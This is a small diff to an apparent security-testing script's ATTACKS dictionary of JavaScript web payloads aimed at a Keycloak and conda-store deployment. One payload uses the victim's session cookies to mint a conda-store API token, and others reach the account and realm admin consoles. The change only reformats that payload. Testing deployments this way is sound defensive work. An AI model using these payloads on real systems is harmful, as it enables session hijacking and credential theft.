@@ -73,7 +73,8 @@ ATTACKS = {
     "a code for the account console": GET.format(ACCOUNT),
     "a code for the account console, in a window": WINDOW.format(ACCOUNT, LOCATION),
     "a code for the realm's console, in a window": WINDOW.format(ADMIN, LOCATION),
-    "conda-store's token": """root => fetch(root + '/conda-store/api/v1/token/', {method: 'POST', credentials: 'include'})
+    "conda-store's token": """root =>
+        fetch(root + '/conda-store/api/v1/token/', {method: 'POST', credentials: 'include'})
         .then(answer => answer.ok ? answer.text() : Promise.reject(new Error(answer.status)))""",
     "conda-store's environments": GET.format("/conda-store/api/v1/environment/"),
     "monitoring": GET.format("/monitoring/"),
